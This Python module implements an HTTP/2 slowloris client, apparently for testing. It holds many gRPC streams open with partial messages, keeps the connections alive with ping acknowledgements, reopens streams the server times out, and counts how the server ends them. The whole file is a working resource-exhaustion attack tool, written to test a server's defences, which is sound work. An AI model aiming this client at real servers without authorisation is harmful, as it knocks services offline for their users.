"""A raw HTTP/2 slowloris client (the ``h2`` library over asyncio sockets): connections
that open many gRPC streams, send HEADERS and part of a request message, and never finish
it, answering the server's pings so their connections stay alive. Test-only."""

from __future__ import annotations

import asyncio
import contextlib
import ssl
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path

import h2.config
import h2.connection
import h2.events
import h2.exceptions

#: A gRPC frame header that declares a 100-byte message, and 10 of its bytes.
PARTIAL_MESSAGE = b"\x00\x00\x00\x00\x64" + b"\x0a" * 10
DEADLINE_EXCEEDED = b"4"


@dataclass
class Slowloris:
    """``connections`` connections, each keeping ``streams`` stalled streams open (one
    the server times out is opened again; a refused one is not), over ``methods``."""

    host: str
    port: int
    methods: tuple[str, ...]
    connections: int = 10
    streams: int = 100
    ca: Path | None = None
    #: Streams opened, and how the server ended the others (grpc-status or RST code).
    opened: int = 0
    ended: Counter[str] = field(default_factory=Counter)
    refused_at_open: int = 0
    _tasks: list[asyncio.Task[None]] = field(default_factory=list)
    _writers: list[asyncio.StreamWriter] = field(default_factory=list)
    ready: asyncio.Event = field(default_factory=asyncio.Event)
    _ready_count: int = 0

    async def start(self) -> None:
        self._tasks = [asyncio.create_task(self._one(i)) for i in range(self.connections)]
        await asyncio.wait_for(self.ready.wait(), timeout=60)

    async def stop(self) -> None:
        for task in self._tasks:
            task.cancel()
        for task in self._tasks:
            with contextlib.suppress(asyncio.CancelledError, Exception):
                await task
        for writer in self._writers:
            writer.close()

    async def _one(self, index: int) -> None:
        context = None
        if self.ca is not None:
            context = ssl.create_default_context(cafile=str(self.ca))
            context.set_alpn_protocols(["h2"])
        reader, writer = await asyncio.open_connection(
            self.host, self.port, ssl=context,
            server_hostname="localhost" if context is not None else None)
        self._writers.append(writer)
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        writer.write(conn.data_to_send())
        scheme = "https" if context is not None else "http"
        n = 0

        def open_stream() -> bool:
            nonlocal n
            sid = conn.get_next_available_stream_id()
            method = self.methods[n % len(self.methods)]
            n += 1
            try:
                conn.send_headers(sid, [
                    (":method", "POST"), (":scheme", scheme), (":path", method),
                    (":authority", f"{self.host}:{self.port}"),
                    ("content-type", "application/grpc"), ("te", "trailers"),
                ])
                conn.send_data(sid, PARTIAL_MESSAGE)
            except h2.exceptions.TooManyStreamsError:
                self.refused_at_open += 1
                return False
            self.opened += 1
            return True

        for _ in range(self.streams):
            if not open_stream():
                break
        writer.write(conn.data_to_send())
        await writer.drain()
        self._ready_count += 1
        if self._ready_count == self.connections:
            self.ready.set()
        while True:
            data = await reader.read(65536)
            if not data:
                return
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.TrailersReceived | h2.events.ResponseReceived):
                    status = dict(event.headers).get(b"grpc-status")
                    if status is not None:
                        self.ended[f"grpc-status {status.decode()}"] += 1
                        if status == DEADLINE_EXCEEDED:  # timed out: stall another one
                            open_stream()
                elif isinstance(event, h2.events.StreamReset):
                    self.ended[f"reset {event.error_code!s}"] += 1
            writer.write(conn.data_to_send())  # ping and settings acks, reopened streams
            await writer.drain()
